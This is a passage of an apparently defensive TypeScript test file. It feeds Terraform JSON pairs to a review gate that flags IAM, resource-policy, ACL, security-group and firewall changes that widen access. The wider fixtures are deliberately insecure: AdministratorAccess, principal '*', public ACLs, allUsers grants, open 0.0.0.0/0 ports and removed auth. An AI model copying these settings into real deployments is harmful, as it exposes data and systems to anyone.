import { buildReview } from "../../scripts/review/build-review";
import { gateItems } from "../../scripts/review/render";
import type { SynthOutput, TerraformJson } from "../../scripts/review/synth-output";

/**
 * Fixture pairs for every widening form the broadening gate must catch, each with a narrowing
 * twin of the same form that must not trip it. Hand-written Terraform JSON, as Terraform reads it.
 */

/** An in-memory synth output with one stack `s` (construct paths from the block names). */
function output(config: TerraformJson): SynthOutput {
  const withPaths = JSON.parse(JSON.stringify(config)) as TerraformJson;
  for (const mode of ["resource", "data"]) {
    for (const blocks of Object.values((withPaths[mode] ?? {}) as Record<string, Record<string, Record<string, unknown>>>)) {
      for (const [name, block] of Object.entries(blocks)) block["//"] = { metadata: { path: `s/${name}`, uniqueId: name } };
    }
  }
  return { label: "test", stacks: new Map([["s", { name: "s", config: withPaths, annotations: [] }]]) };
}

const gate = (base: TerraformJson, head: TerraformJson) => gateItems(buildReview(output(base), output(head)));

type Json = Record<string, any>;
const policy = (...statements: Json[]) => JSON.stringify({ Version: "2012-10-17", Statement: statements });
const allow = (action: string | string[], resource: string | string[], extra: Json = {}) => ({ Effect: "Allow", Action: action, Resource: resource, ...extra });
const role = (name = "R") => ({ [name]: { name: name.toLowerCase(), assume_role_policy: policy({ Effect: "Allow", Action: "sts:AssumeRole", Principal: { Service: "lambda.amazonaws.com" } }) } });
const partition = { aws_partition: { current: {} } };
const BUCKET = "arn:aws:s3:::b";

/** [form, base, wider head, narrower head]. */
const PAIRS: [string, Json, Json, Json][] = [
  // --- identity policies, attached every way ---
  (() => {
    const cfg = (actions: string[]) => ({ resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: policy(allow(actions, `${BUCKET}/*`)) } } } });
    return ["inline aws_iam_role_policy", cfg(["s3:GetObject", "s3:PutObject"]), cfg(["s3:GetObject", "s3:PutObject", "s3:DeleteObject"]), cfg(["s3:GetObject"])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (resource: string) => ({ resource: { aws_iam_role: { R: { ...role().R, inline_policy: [{ name: "i", policy: policy(allow("s3:GetObject", resource)) }] } } } });
    return ["aws_iam_role.inline_policy", cfg(`${BUCKET}/reports/*`), cfg(`${BUCKET}/*`), cfg(`${BUCKET}/reports/2026/*`)] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (actions: string[]) => ({
      data: { aws_iam_policy_document: { D: { statement: [{ effect: "Allow", actions, resources: ["${aws_sqs_queue.Q.arn}"] }] } } },
      resource: {
        aws_sqs_queue: { Q: { name: "q" } },
        aws_iam_role: role(),
        aws_iam_policy: { P: { name: "p", policy: "${data.aws_iam_policy_document.D.json}" } },
        aws_iam_role_policy_attachment: { A: { role: "${aws_iam_role.R.name}", policy_arn: "${aws_iam_policy.P.arn}" } },
      },
    });
    return ["aws_iam_policy (document) + attachment", cfg(["sqs:SendMessage", "sqs:GetQueueUrl"]), cfg(["sqs:SendMessage", "sqs:GetQueueUrl", "sqs:PurgeQueue"]), cfg(["sqs:SendMessage"])] as [
      string,
      Json,
      Json,
      Json,
    ];
  })(),
  (() => {
    const cfg = (arns: string[]) => ({
      data: partition,
      resource: {
        aws_iam_role: role(),
        aws_iam_role_policy_attachment: Object.fromEntries(arns.map((arn, i) => [`A${i}`, { role: "${aws_iam_role.R.name}", policy_arn: `arn:\${data.aws_partition.current.partition}:iam::aws:policy/${arn}` }])),
      },
    });
    return ["managed policy ARN from data.aws_partition", cfg(["ReadOnlyAccess"]), cfg(["ReadOnlyAccess", "AdministratorAccess"]), cfg([])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (arns: string[]) => ({ resource: { aws_iam_role: role(), aws_iam_role_policy_attachments_exclusive: { X: { role_name: "${aws_iam_role.R.name}", policy_arns: arns } } } });
    const ro = "arn:aws:iam::aws:policy/ReadOnlyAccess";
    const admin = "arn:aws:iam::aws:policy/AdministratorAccess";
    const logs = "arn:aws:iam::aws:policy/CloudWatchLogsReadOnlyAccess";
    return ["aws_iam_role_policy_attachments_exclusive", cfg([ro, logs]), cfg([ro, logs, admin]), cfg([logs])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (roles: string[]) => ({
      resource: { aws_iam_role: { ...role("R1"), ...role("R2") }, aws_iam_policy_attachment: { A: { name: "a", roles, policy_arn: "arn:aws:iam::111111111111:policy/deploy" } } },
    });
    return ["aws_iam_policy_attachment roles", cfg(["${aws_iam_role.R1.name}"]), cfg(["${aws_iam_role.R1.name}", "${aws_iam_role.R2.name}"]), cfg([])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (arns: string[]) => ({ resource: { aws_iam_role: { R: { ...role().R, managed_policy_arns: arns } } } });
    return ["aws_iam_role.managed_policy_arns", cfg(["arn:aws:iam::aws:policy/ReadOnlyAccess"]), cfg(["arn:aws:iam::aws:policy/ReadOnlyAccess", "arn:aws:iam::aws:policy/PowerUserAccess"]), cfg([])] as [
      string,
      Json,
      Json,
      Json,
    ];
  })(),
  (() => {
    const cfg = (to: string, name = "P") => ({
      resource: { aws_iam_role: { ...role("R1"), ...role("R2") }, aws_iam_role_policy: { [name]: { role: `\${aws_iam_role.${to}.id}`, policy: policy(allow("dynamodb:DeleteItem", "arn:aws:dynamodb:eu-west-1:111111111111:table/t")) } } },
    });
    // Narrowing twin: the same policy under another construct id on the same role (a rename), no new access.
    return ["a role policy moved to another role", cfg("R1"), cfg("R2"), cfg("R1", "Renamed")] as [string, Json, Json, Json];
  })(),
  (() => {
    const statement = allow("dynamodb:Query", "arn:aws:dynamodb:eu-west-1:111111111111:table/t");
    const inline = { resource: { aws_iam_role: { ...role("R1"), ...role("R2") }, aws_iam_role_policy: { P: { role: "${aws_iam_role.R1.id}", policy: policy(statement) } } } };
    const managed = (to: string) => ({
      resource: {
        aws_iam_role: { ...role("R1"), ...role("R2") },
        aws_iam_policy: { M: { name: "m", policy: policy(statement) } },
        aws_iam_role_policy_attachment: { A: { role: `\${aws_iam_role.${to}.name}`, policy_arn: "${aws_iam_policy.M.arn}" } },
      },
    });
    // Narrowing twin: the same statement moved from an inline policy to a managed policy attached to the same role.
    return ["an inline statement moved to a managed policy attached to another role", inline, managed("R2"), managed("R1")] as [string, Json, Json, Json];
  })(),
  (() => {
    const deny = { Effect: "Deny", Action: "s3:DeleteObject", Resource: `${BUCKET}/*` };
    const cfg = (statements: Json[]) => ({ resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: policy(...statements) } } } });
    const read = allow("s3:*", `${BUCKET}/*`);
    return ["a Deny removed or narrowed", cfg([read, deny]), cfg([read, { ...deny, Resource: `${BUCKET}/tmp/*` }]), cfg([read, { ...deny, Action: ["s3:DeleteObject", "s3:PutObject"] }])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (conditions: Json[]) => ({
      data: { aws_iam_policy_document: { D: { statement: [{ effect: "Allow", actions: ["sqs:SendMessage"], resources: ["*"], condition: conditions }] } } },
      resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: "${data.aws_iam_policy_document.D.json}" } } },
    });
    const account = (a: string) => ({ test: "StringEquals", variable: "aws:ResourceAccount", values: [a] });
    const tls = { test: "Bool", variable: "aws:SecureTransport", values: ["true"] };
    // A second block for the same operator and key merges values: AWS ORs them, so it widens.
    return ["condition blocks (same key ORs, dropped condition)", cfg([account("111111111111"), tls]), cfg([account("111111111111"), account("222222222222"), tls]), cfg([account("111111111111"), tls, { test: "StringLike", variable: "aws:PrincipalTag/team", values: ["svc"] }])] as [
      string,
      Json,
      Json,
      Json,
    ];
  })(),
  (() => {
    const cfg = (values: string[]) => ({
      resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: policy(allow("s3:GetObject", "*", { Condition: { StringNotEquals: { "aws:ResourceAccount": values } } })) } } },
    });
    return ["negated condition excluding less", cfg(["111111111111", "222222222222"]), cfg(["111111111111"]), cfg(["111111111111", "222222222222", "333333333333"])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (principal: string[]) => ({
      resource: { aws_iam_role: { R: { name: "r", assume_role_policy: policy({ Effect: "Allow", Action: "sts:AssumeRole", Principal: { Service: principal } }) } } },
    });
    return ["trust policy principal", cfg(["lambda.amazonaws.com", "edgelambda.amazonaws.com"]), cfg(["lambda.amazonaws.com", "edgelambda.amazonaws.com", "ec2.amazonaws.com"]), cfg(["lambda.amazonaws.com"])] as [
      string,
      Json,
      Json,
      Json,
    ];
  })(),
  // --- resource-based policies ---
  (() => {
    const cfg = (principal: unknown) => ({
      resource: { aws_s3_bucket: { B: { bucket: "b" } }, aws_s3_bucket_policy: { BP: { bucket: "${aws_s3_bucket.B.id}", policy: policy(allow("s3:GetObject", `${BUCKET}/*`, { Principal: principal })) } } },
    });
    return ["S3 bucket policy principal", cfg({ AWS: ["arn:aws:iam::111111111111:root", "arn:aws:iam::222222222222:root"] }), cfg("*"), cfg({ AWS: "arn:aws:iam::111111111111:root" })] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (condition: Json | undefined) => ({
      resource: {
        aws_sqs_queue: { Q: { name: "q" } },
        aws_sqs_queue_policy: {
          QP: {
            queue_url: "${aws_sqs_queue.Q.id}",
            policy: policy(allow("sqs:SendMessage", "${aws_sqs_queue.Q.arn}", { Principal: { Service: "sns.amazonaws.com" }, ...(condition ? { Condition: condition } : {}) })),
          },
        },
      },
    });
    const topics = (arns: string[]) => ({ ArnLike: { "aws:SourceArn": arns } });
    return ["SQS queue policy source condition", cfg(topics(["arn:aws:sns:eu-west-1:111111111111:orders-*"])), cfg(undefined), cfg(topics(["arn:aws:sns:eu-west-1:111111111111:orders-eu"]))] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (accounts: string[]) => ({
      resource: {
        aws_sns_topic: { T: { name: "t" } },
        aws_sns_topic_policy: { TP: { arn: "${aws_sns_topic.T.arn}", policy: policy(allow("sns:Subscribe", "${aws_sns_topic.T.arn}", { Principal: { AWS: accounts } })) } },
      },
    });
    return ["SNS topic policy principal", cfg(["111111111111", "222222222222"]), cfg(["111111111111", "222222222222", "333333333333"]), cfg(["111111111111"])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (actions: string[]) => ({ resource: { aws_kms_key: { K: { description: "k", policy: policy(allow(actions, "*", { Principal: { AWS: "arn:aws:iam::111111111111:root" } })) } } } });
    return ["KMS key policy actions", cfg(["kms:Decrypt", "kms:Encrypt"]), cfg(["kms:*"]), cfg(["kms:Decrypt"])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (principal: string) => ({
      resource: {
        aws_secretsmanager_secret: { S: { name: "s" } },
        aws_secretsmanager_secret_policy: { SP: { secret_arn: "${aws_secretsmanager_secret.S.arn}", policy: policy(allow("secretsmanager:GetSecretValue", "*", { Principal: { AWS: principal } })) } },
      },
    });
    return ["Secrets Manager secret policy principal", cfg("arn:aws:iam::111111111111:role/app-*"), cfg("arn:aws:iam::111111111111:root"), cfg("arn:aws:iam::111111111111:role/app-api")] as [string, Json, Json, Json];
  })(),
  // --- Lambda permissions and function URLs ---
  (() => {
    const cfg = (extra: Json) => ({
      resource: {
        aws_lambda_function: { F: { function_name: "f" } },
        aws_lambda_permission: { P: { action: "lambda:InvokeFunction", function_name: "${aws_lambda_function.F.function_name}", principal: "s3.amazonaws.com", ...extra } },
      },
    });
    const arn = "arn:aws:s3:::uploads";
    return ["Lambda permission source_account dropped", cfg({ source_arn: arn, source_account: "111111111111" }), cfg({ source_arn: arn }), cfg({ source_arn: arn, source_account: "111111111111", principal_org_id: "o-abc" })] as [
      string,
      Json,
      Json,
      Json,
    ];
  })(),
  (() => {
    const cfg = (extra: Json) => ({
      resource: {
        aws_lambda_function: { F: { function_name: "f" } },
        aws_lambda_permission: { P: { action: "lambda:InvokeFunction", function_name: "${aws_lambda_function.F.function_name}", ...extra } },
      },
    });
    return ["Lambda permission principal widened", cfg({ principal: "events.amazonaws.com", source_arn: "arn:aws:events:eu-west-1:111111111111:rule/*" }), cfg({ principal: "*" }), cfg({ principal: "events.amazonaws.com", source_arn: "arn:aws:events:eu-west-1:111111111111:rule/nightly" })] as [
      string,
      Json,
      Json,
      Json,
    ];
  })(),
  (() => {
    const cfg = (extra: Json) => ({
      resource: {
        aws_lambda_function: { F: { function_name: "f" } },
        aws_lambda_permission: { P: { action: "lambda:InvokeFunction", function_name: "${aws_lambda_function.F.function_name}", principal: "*", ...extra } },
      },
    });
    return ["Lambda permission principal_org_id dropped", cfg({ principal_org_id: "o-abc" }), cfg({}), cfg({ principal_org_id: "o-abc", source_account: "111111111111" })] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (auth: string) => ({ resource: { aws_lambda_function: { F: { function_name: "f" } }, aws_lambda_function_url: { U: { function_name: "${aws_lambda_function.F.function_name}", authorization_type: auth } } } });
    return ["function URL auth", cfg("AWS_IAM"), cfg("NONE"), cfg("AWS_IAM")] as [string, Json, Json, Json];
  })(),
  // --- S3 public access block ---
  (() => {
    const cfg = (settings: Json | undefined) => ({ resource: { aws_s3_bucket: { B: { bucket: "b" } }, ...(settings ? { aws_s3_bucket_public_access_block: { PAB: { bucket: "${aws_s3_bucket.B.id}", ...settings } } } : {}) } });
    const all = { block_public_acls: true, block_public_policy: true, ignore_public_acls: true, restrict_public_buckets: true };
    return ["S3 public access block setting turned off", cfg({ ...all, block_public_policy: false }), cfg({ ...all, block_public_policy: false, restrict_public_buckets: false }), cfg(all)] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (settings: Json | undefined) => ({ resource: { aws_s3_bucket: { B: { bucket: "b" } }, ...(settings ? { aws_s3_bucket_public_access_block: { PAB: { bucket: "${aws_s3_bucket.B.id}", ...settings } } } : {}) } });
    const all = { block_public_acls: true, block_public_policy: true, ignore_public_acls: true, restrict_public_buckets: true };
    return ["S3 public access block removed from a bucket that stays", cfg({ ...all, ignore_public_acls: false }), cfg(undefined), cfg(all)] as [string, Json, Json, Json];
  })(),
  // --- security groups, every form ---
  (() => {
    const cfg = (cidrs: string[]) => ({ resource: { aws_security_group: { G: { name: "g", vpc_id: "vpc-1", ingress: [{ protocol: "tcp", from_port: 443, to_port: 443, cidr_blocks: cidrs }] } } } });
    return ["inline ingress CIDR widened", cfg(["10.0.0.0/16"]), cfg(["10.0.0.0/8"]), cfg(["10.0.1.0/24"])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (from: number, to: number) => ({
      resource: {
        aws_security_group: { G: { name: "g", vpc_id: "vpc-1" } },
        aws_security_group_rule: { Rule: { type: "ingress", security_group_id: "${aws_security_group.G.id}", protocol: "tcp", from_port: from, to_port: to, cidr_blocks: ["10.0.0.0/16"] } },
      },
    });
    return ["aws_security_group_rule ports widened", cfg(8000, 8010), cfg(0, 65535), cfg(8005, 8005)] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (rule: Json) => ({
      resource: {
        aws_security_group: { G: { name: "g", vpc_id: "vpc-1" } },
        aws_vpc_security_group_ingress_rule: { In: { security_group_id: "${aws_security_group.G.id}", ip_protocol: "tcp", from_port: 5432, to_port: 5432, ...rule } },
      },
    });
    return ["aws_vpc_security_group_ingress_rule to the internet", cfg({ cidr_ipv4: "10.0.0.0/16" }), cfg({ cidr_ipv4: "0.0.0.0/0" }), cfg({ cidr_ipv4: "10.0.42.0/24" })] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (protocol: string, cidr: string) => ({
      resource: {
        aws_security_group: { G: { name: "g", vpc_id: "vpc-1" } },
        aws_vpc_security_group_egress_rule: { Out: { security_group_id: "${aws_security_group.G.id}", ip_protocol: protocol, ...(protocol === "-1" ? {} : { from_port: 443, to_port: 443 }), cidr_ipv6: cidr } },
      },
    });
    return ["egress rule widened (IPv6, all protocols)", cfg("tcp", "2001:db8::/32"), cfg("-1", "::/0"), cfg("tcp", "2001:db8:1::/48")] as [string, Json, Json, Json];
  })(),
  (() => {
    const inline = { resource: { aws_security_group: { G: { name: "g", vpc_id: "vpc-1", ingress: [{ protocol: "tcp", from_port: 443, to_port: 443, cidr_blocks: ["10.0.0.0/16"] }] } } } };
    const separate = (cidr: string) => ({
      resource: {
        aws_security_group: { G: { name: "g", vpc_id: "vpc-1" } },
        aws_vpc_security_group_ingress_rule: { In: { security_group_id: "${aws_security_group.G.id}", ip_protocol: "tcp", from_port: 443, to_port: 443, cidr_ipv4: cidr } },
      },
    });
    // Narrowing twin: the same rule moved from inline to a separate rule resource.
    return ["rule moved between forms, widened on the way", inline, separate("0.0.0.0/0"), separate("10.0.0.0/16")] as [string, Json, Json, Json];
  })(),
  // --- API routes ---
  (() => {
    const cfg = (auth: Json) => ({
      resource: { aws_apigatewayv2_authorizer: { A: { api_id: "a", authorizer_type: "JWT", name: "jwt" } }, aws_apigatewayv2_route: { R: { api_id: "a", route_key: "GET /users", ...auth } } },
    });
    const jwt = (scopes: string[]) => ({ authorization_type: "JWT", authorizer_id: "${aws_apigatewayv2_authorizer.A.id}", authorization_scopes: scopes });
    return ["route losing its authorization", cfg(jwt(["users:read"])), cfg({ authorization_type: "NONE" }), cfg(jwt(["users:read"]))] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (scopes: string[]) => ({ resource: { aws_apigatewayv2_route: { R: { api_id: "a", route_key: "GET /users", authorization_type: "JWT", authorizer_id: "az", authorization_scopes: scopes } } } });
    return ["JWT route accepting more scopes", cfg(["users:read", "users:admin"]), cfg(["users:read", "users:admin", "users:any"]), cfg(["users:admin"])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (auth: string) => ({ resource: { aws_api_gateway_method: { M: { rest_api_id: "r", resource_id: "x", http_method: "GET", authorization: auth } } } });
    return ["REST API method losing its authorization", cfg("AWS_IAM"), cfg("NONE"), cfg("AWS_IAM")] as [string, Json, Json, Json];
  })(),
  // --- GCP, every level and form ---
  (() => {
    const cfg = (members: string[]) => ({ resource: { google_project_iam_member: Object.fromEntries(members.map((m, i) => [`M${i}`, { project: "p", role: "roles/viewer", member: m }])) } });
    return ["google_project_iam_member", cfg(["user:a@example.com", "user:b@example.com"]), cfg(["user:a@example.com", "user:b@example.com", "user:c@example.com"]), cfg(["user:a@example.com"])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (members: string[]) => ({ resource: { google_folder_iam_binding: { B: { folder: "folders/1", role: "roles/browser", members } } } });
    return ["google_folder_iam_binding", cfg(["group:a@example.com", "group:b@example.com"]), cfg(["group:a@example.com", "group:b@example.com", "domain:example.com"]), cfg(["group:a@example.com"])] as [
      string,
      Json,
      Json,
      Json,
    ];
  })(),
  (() => {
    const cfg = (bindings: Json[]) => ({
      data: { google_iam_policy: { Org: { binding: bindings } } },
      resource: { google_organization_iam_policy: { P: { org_id: "123", policy_data: "${data.google_iam_policy.Org.policy_data}" } } },
    });
    const admins = { role: "roles/resourcemanager.organizationAdmin", members: ["group:admins@example.com"] };
    return ["google_organization_iam_policy via data.google_iam_policy", cfg([admins, { role: "roles/viewer", members: ["group:audit@example.com"] }]), cfg([admins, { role: "roles/viewer", members: ["group:audit@example.com", "allAuthenticatedUsers"] }]), cfg([admins])] as [
      string,
      Json,
      Json,
      Json,
    ];
  })(),
  (() => {
    const cfg = (condition: Json | undefined) => ({ resource: { google_storage_bucket_iam_member: { M: { bucket: "b", role: "roles/storage.objectViewer", member: "user:a@example.com", ...(condition ? { condition } : {}) } } } });
    const expiring = { title: "until 2027", expression: 'request.time < timestamp("2027-01-01T00:00:00Z")' };
    return ["resource-level member losing its condition", cfg(expiring), cfg(undefined), cfg(expiring)] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (bindings: Json[]) => ({ resource: { google_secret_manager_secret_iam_policy: { P: { secret_id: "s", policy_data: JSON.stringify({ bindings }) } } } });
    const accessor = (members: string[]) => ({ role: "roles/secretmanager.secretAccessor", members });
    return ["resource-level _iam_policy literal JSON", cfg([accessor(["serviceAccount:a@p.iam.gserviceaccount.com", "serviceAccount:b@p.iam.gserviceaccount.com"])]), cfg([accessor(["serviceAccount:a@p.iam.gserviceaccount.com", "serviceAccount:b@p.iam.gserviceaccount.com", "allUsers"])]), cfg([accessor(["serviceAccount:a@p.iam.gserviceaccount.com"])])] as [
      string,
      Json,
      Json,
      Json,
    ];
  })(),
  (() => {
    const cfg = (ingress: string) => ({ resource: { google_cloud_run_v2_service: { S: { name: "s", location: "europe-west1", ingress, template: {} } } } });
    return ["Cloud Run ingress", cfg("INGRESS_TRAFFIC_INTERNAL_LOAD_BALANCER"), cfg("INGRESS_TRAFFIC_ALL"), cfg("INGRESS_TRAFFIC_INTERNAL_ONLY")] as [string, Json, Json, Json];
  })(),
  // --- resource policies the catalog describes (read through the model, whatever the type) ---
  (() => {
    const cfg = (principal: unknown) => ({
      resource: {
        aws_dynamodb_table: { T: { name: "t", hash_key: "id" } },
        aws_dynamodb_resource_policy: { P: { resource_arn: "${aws_dynamodb_table.T.arn}", policy: policy(allow("dynamodb:GetItem", "${aws_dynamodb_table.T.arn}", { Principal: principal })) } },
      },
    });
    return ["DynamoDB resource policy principal", cfg({ AWS: ["arn:aws:iam::111111111111:root", "arn:aws:iam::222222222222:root"] }), cfg("*"), cfg({ AWS: "arn:aws:iam::111111111111:role/reader" })] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (condition: Json | undefined) => ({
      resource: {
        aws_cloudwatch_event_bus: { B: { name: "orders" } },
        aws_cloudwatch_event_bus_policy: {
          P: { event_bus_name: "${aws_cloudwatch_event_bus.B.name}", policy: policy(allow("events:PutEvents", "${aws_cloudwatch_event_bus.B.arn}", { Principal: "*", ...(condition ? { Condition: condition } : {}) })) },
        },
      },
    });
    const org = (ids: string[]) => ({ StringEquals: { "aws:PrincipalOrgID": ids } });
    return ["EventBridge bus policy organization condition", cfg(org(["o-aaa", "o-bbb"])), cfg(undefined), cfg(org(["o-aaa"]))] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (extra: Json) => ({ resource: { aws_cloudwatch_event_permission: { P: { statement_id: "s", event_bus_name: "orders", ...extra } } } });
    const org = { condition: { key: "aws:PrincipalOrgID", type: "StringEquals", value: "o-aaa" } };
    // Narrowing twin: everyone in the organization becomes one account of it.
    return ["EventBridge bus permission", cfg({ principal: "*", ...org }), cfg({ principal: "*" }), cfg({ principal: "111111111111", ...org })] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (condition: Json | undefined) => ({
      resource: {
        aws_api_gateway_rest_api: { A: { name: "a" } },
        aws_api_gateway_rest_api_policy: {
          P: { rest_api_id: "${aws_api_gateway_rest_api.A.id}", policy: policy(allow("execute-api:Invoke", "${aws_api_gateway_rest_api.A.execution_arn}/*", { Principal: "*", ...(condition ? { Condition: condition } : {}) })) },
        },
      },
    });
    const ips = (cidrs: string[]) => ({ IpAddress: { "aws:SourceIp": cidrs } });
    return ["REST API policy source IP condition", cfg(ips(["10.0.0.0/8"])), cfg(undefined), cfg(ips(["10.1.0.0/16"]))] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (principal: string, org?: string) => ({ resource: { aws_lambda_layer_version_permission: { P: { layer_name: "l", version_number: 1, statement_id: "s", action: "lambda:GetLayerVersion", principal, ...(org ? { organization_id: org } : {}) } } } });
    return ["Lambda layer permission organization dropped", cfg("*", "o-aaa"), cfg("*"), cfg("111111111111", "o-aaa")] as [string, Json, Json, Json];
  })(),
  (() => {
    // The provider's merge: an override statement replaces the source statement with its Sid.
    const cfg = (override: Json) => ({
      data: {
        aws_iam_policy_document: {
          Src: { statement: [{ sid: "Objects", effect: "Allow", actions: ["s3:*"], resources: [`${BUCKET}/*`] }] },
          Ovr: { statement: [override] },
          Doc: { source_policy_documents: ["${data.aws_iam_policy_document.Src.json}"], override_policy_documents: ["${data.aws_iam_policy_document.Ovr.json}"] },
        },
      },
      resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: "${data.aws_iam_policy_document.Doc.json}" } } },
    });
    const read = (sid: string, resource: string) => ({ sid, effect: "Allow", actions: ["s3:GetObject"], resources: [resource] });
    // Wider: the override gets another Sid, so the source's s3:* is no longer replaced.
    return ["source/override policy documents merged by Sid", cfg(read("Objects", `${BUCKET}/*`)), cfg(read("Reads", `${BUCKET}/*`)), cfg(read("Objects", `${BUCKET}/reports/*`))] as [string, Json, Json, Json];
  })(),
  // --- ACLs, entry by entry ---
  (() => {
    const cfg = (acl: string) => ({ resource: { aws_s3_bucket: { B: { bucket: "b" } }, aws_s3_bucket_acl: { A: { bucket: "${aws_s3_bucket.B.id}", acl } } } });
    return ["S3 canned ACL", cfg("public-read"), cfg("public-read-write"), cfg("private")] as [string, Json, Json, Json];
  })(),
  (() => {
    const group = (name: string) => ({ grantee: { type: "Group", uri: `http://acs.amazonaws.com/groups/global/${name}` }, permission: "READ" });
    const cfg = (grants: Json[]) => ({
      resource: { aws_s3_bucket: { B: { bucket: "b" } }, aws_s3_bucket_acl: { A: { bucket: "${aws_s3_bucket.B.id}", access_control_policy: { owner: { id: "o" }, grant: [{ grantee: { type: "CanonicalUser", id: "o" }, permission: "FULL_CONTROL" }, ...grants] } } } },
    });
    return ["S3 ACL grants", cfg([{ grantee: { type: "CanonicalUser", id: "partner" }, permission: "READ" }]), cfg([{ grantee: { type: "CanonicalUser", id: "partner" }, permission: "READ" }, group("AllUsers")]), cfg([])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (acl: string) => ({ resource: { aws_s3_object: { O: { bucket: "b", key: "k", acl } } } });
    return ["S3 object ACL", cfg("private"), cfg("public-read"), cfg("private")] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (entities: string[]) => ({ resource: { google_storage_bucket_acl: { A: { bucket: "b", role_entity: ["OWNER:project-owners-1", ...entities] } } } });
    return ["GCS bucket ACL role entities", cfg(["READER:group-a@example.com"]), cfg(["READER:group-a@example.com", "READER:allUsers"]), cfg([])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (predefined: string) => ({ resource: { google_storage_object_acl: { A: { bucket: "b", object: "o", predefined_acl: predefined } } } });
    return ["GCS predefined object ACL", cfg("private"), cfg("publicRead"), cfg("private")] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (entity: string, role: string) => ({ resource: { google_storage_bucket_access_control: { A: { bucket: "b", entity, role } } } });
    return ["GCS bucket access control role", cfg("group-a@example.com", "WRITER"), cfg("group-a@example.com", "OWNER"), cfg("group-a@example.com", "READER")] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (entities: Json) => ({ resource: { google_storage_object_access_control: entities } });
    const entry = (entity: string) => ({ bucket: "b", object: "o", entity, role: "READER" });
    return ["GCS object access control to the public", cfg({ A: entry("group-a@example.com") }), cfg({ A: entry("group-a@example.com"), P: entry("allUsers") }), cfg({})] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (entities: string[]) => ({ resource: { google_storage_default_object_acl: { A: { bucket: "b", role_entity: entities } } } });
    return ["GCS default object ACL", cfg(["WRITER:group-a@example.com"]), cfg(["WRITER:group-a@example.com", "READER:allUsers"]), cfg(["READER:group-a@example.com"])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (ownership: string) => ({ resource: { aws_s3_bucket: { B: { bucket: "b" } }, aws_s3_bucket_ownership_controls: { C: { bucket: "${aws_s3_bucket.B.id}", rule: { object_ownership: ownership } } } } });
    return ["S3 ACLs turned back on (object ownership)", cfg("BucketOwnerEnforced"), cfg("ObjectWriter"), cfg("BucketOwnerEnforced")] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (prevention: string) => ({ resource: { google_storage_bucket: { B: { name: "b", location: "EU", uniform_bucket_level_access: true, public_access_prevention: prevention } } } });
    return ["GCS public access prevention lifted", cfg("enforced"), cfg("inherited"), cfg("enforced")] as [string, Json, Json, Json];
  })(),
  // --- network rules beyond security groups ---
  (() => {
    const cfg = (ranges: string[]) => ({ resource: { google_compute_firewall: { F: { name: "f", network: "vpc", source_ranges: ranges, allow: [{ protocol: "tcp", ports: ["443"] }] } } } });
    return ["GCP firewall source range", cfg(["10.0.0.0/16"]), cfg(["0.0.0.0/0"]), cfg(["10.0.1.0/24"])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (ports: string[]) => ({ resource: { google_compute_firewall: { F: { name: "f", network: "vpc", source_ranges: ["10.0.0.0/16"], target_tags: ["web"], allow: [{ protocol: "tcp", ports }] } } } });
    return ["GCP firewall ports", cfg(["8000-8080"]), cfg(["0-65535"]), cfg(["8080"])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (source: Json) => ({ resource: { google_compute_firewall: { F: { name: "f", network: "vpc", allow: [{ protocol: "tcp", ports: ["22"] }], ...source } } } });
    // No source at all: Google applies the rule to every address.
    return ["GCP firewall losing its sources", cfg({ source_tags: ["bastion"] }), cfg({}), cfg({ source_tags: ["bastion"], target_tags: ["db"] })] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (deny: Json | undefined) => ({
      resource: {
        google_compute_firewall: {
          Allow: { name: "allow", network: "vpc", source_ranges: ["0.0.0.0/0"], allow: [{ protocol: "tcp", ports: ["443"] }] },
          Block: { name: "block", network: "vpc", source_ranges: ["0.0.0.0/0"], deny: deny ? [deny] : [{ protocol: "tcp", ports: ["22"] }], ...(deny ? {} : { disabled: true }) },
        },
      },
    });
    return ["GCP firewall deny rule switched off", cfg({ protocol: "tcp", ports: ["22"] }), cfg(undefined), cfg({ protocol: "all" })] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (cidr: string) => ({
      resource: {
        aws_network_acl: { N: { vpc_id: "vpc-1" } },
